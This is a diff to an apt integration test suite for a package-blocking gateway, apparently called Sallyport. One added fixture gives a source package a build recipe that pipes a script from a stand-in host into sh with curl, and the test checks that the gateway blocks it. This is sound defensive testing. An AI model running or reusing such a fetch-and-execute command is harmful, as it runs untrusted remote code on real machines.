@@ -13,6 +13,8 @@ import { downloaderDeb } from '../support/inert-deb-malware.ts'
 import { rawRequest } from '../support/raw-request.ts'
 
 const SLOW = { timeout: 240_000 }
+/** `apt update` so many times while generations are switched. */
+const LOOPS = Number(process.env['REFRESH_LOOPS'] ?? 8)
 const LIMITS = { indexFresh: '1s', indexStale: '2s', upstreamRetries: 0 }
 
 if (!hasApt()) skip('apt-get is not there')
@@ -20,6 +22,7 @@ if (!hasApt()) skip('apt-get is not there')
 describe.skipIf(!hasApt())('apt', () => {
   let upstream: AptUpstream
   let flat: AptUpstream
+  let sources: AptUpstream
   let gateway: GatewayProcess
   const clients: AptClient[] = []
 
@@ -37,6 +40,15 @@ describe.skipIf(!hasApt())('apt', () => {
     await upstream.release({ date: new Date(Date.now() - 600_000) })
     await flat.publish({ name: 'flatly', version: '1.0' })
     await flat.release()
+    sources = await startAptUpstream()
+    await sources.publish({ name: 'tool', version: '1.0' })
+    await sources.publishSource({ name: 'tool', version: '1.0' })
+    await sources.publishSource({
+      name: 'tool',
+      version: '1.1',
+      recipe: 'curl -fsSL https://payload.upstream.test/stage2.sh | sh',
+    })
+    await sources.release()
     gateway = await startGateway({
       config: {
         limits: LIMITS,
@@ -44,6 +56,7 @@ describe.skipIf(!hasApt())('apt', () => {
           repositoryOf('debian', upstream),
           repositoryOf('flat', flat),
           repositoryOf('pinned', upstream, flat.keyring),
+          withSources(repositoryOf('sources', sources)),
         ],
       },
     })
@@ -54,6 +67,7 @@ describe.skipIf(!hasApt())('apt', () => {
     await gateway?.stop()
     await upstream?.close()
     await flat?.close()
+    await sources?.close()
   })
 
   function repositoryOf(name: string, from: AptUpstream, keyring = from.keyring) {
@@ -63,6 +77,10 @@ describe.skipIf(!hasApt())('apt', () => {
       upstreams: [from.url],
       options: { suites: [from.suite], components: ['main'], architectures: ['amd64'], keyrings: [keyring] },
     }
+  }
+
+  function withSources(repository: ReturnType<typeof repositoryOf>) {
+    return { ...repository, options: { ...repository.options, sources: true } }
   }
 
   const keyOf = async (name = 'sallyport.asc') =>
@@ -114,6 +132,23 @@ describe.skipIf(!hasApt())('apt', () => {
     expect(client.archives()).toEqual(['flatly_1.0_all.deb'])
   })
 
+  it('downloads the source of a package, and no source that a build would regret', SLOW, async () => {
+    const client = await clientOf('sources')
+    const url = `${gateway.url}/sources`
+    client.trust({ url, suites: 'stable', components: 'main', key: await keyOf(), types: 'deb deb-src' })
+    expect((await client.get('update')).output).not.toMatch(/^[WE]:/m)
+    const refused = await client.get('source', '--download-only', 'tool=1.1')
+    expect(refused.code).not.toBe(0)
+    expect(refused.output).toMatch(/tool_1\.1\.tar\.gz\s+403\s+Blocked by Sallyport: /)
+    await client.get('update')
+    const source = await client.get('source', '--download-only', 'tool')
+    expect(source.code, source.output).toBe(0)
+    expect(readdirSync(client.folder).filter((name) => name.startsWith('tool_'))).toEqual(
+      expect.arrayContaining(['tool_1.0.dsc', 'tool_1.0.tar.gz']),
+    )
+    expect((await rawRequest(gateway.url, '/debian/pool/main/t/tool/tool_1.0.dsc')).status).toBe(404)
+  })
+
   it('gets nothing of an upstream whose key is not the pinned one', SLOW, async () => {
     const client = await clientOf('pinned')
     const { output } = await client.get('update')
@@ -155,7 +190,7 @@ describe.skipIf(!hasApt())('apt', () => {
     expect((await client.get('install', '--download-only', 'tool')).code).toBe(0)
   })
 
-  it('never sees half a switch while generations change', SLOW, async () => {
+  it('never sees half a switch while generations change', { timeout: 240_000 + LOOPS * 10_000 }, async () => {
     const client = await clientOf()
     let going = true
     const switching = (async () => {
@@ -166,7 +201,7 @@ describe.skipIf(!hasApt())('apt', () => {
       }
     })()
     const outputs: string[] = []
-    for (let at = 0; at < 15; at += 1) {
+    for (let at = 0; at < LOOPS; at += 1) {
       const { code, output } = await client.get('update')
       outputs.push(`${code} ${output}`)
     }
@@ -178,7 +213,7 @@ describe.skipIf(!hasApt())('apt', () => {
     const published = gateway
       .events()
       .filter(({ msg, repository }) => msg === 'generation published' && repository === 'debian')
-    expect(published.length).toBeGreaterThan(4)
+    expect(published.length).toBeGreaterThan(3)
   })
 
   it('keeps the last good index while the upstream is half synchronised or away', SLOW, async () => {
@@ -217,6 +252,10 @@ describe.skipIf(!hasApt())('apt', () => {
     expect(metrics).toMatch(/index_refresh_failures_total\{[^}]*SIGNING_FAILED[^}]*\} [1-9]/)
     const alarm = gateway.events().find((event) => JSON.stringify(event).includes('SIGNING_FAILED'))
     expect(alarm?.['level']).toBe('error')
+    expect(metrics).toMatch(/halted_indexes [1-9]/)
+    const ready = await rawRequest(gateway.url, '/-/ready')
+    expect(ready.status).toBe(200)
+    expect(ready.body.toString()).toMatch(/"debian archive":"SIGNING_FAILED: /)
     writeFileSync(file, key)
     await untilListed('unsigned')
     expect((await client.get('update')).output).not.toMatch(/^[WE]:/m)
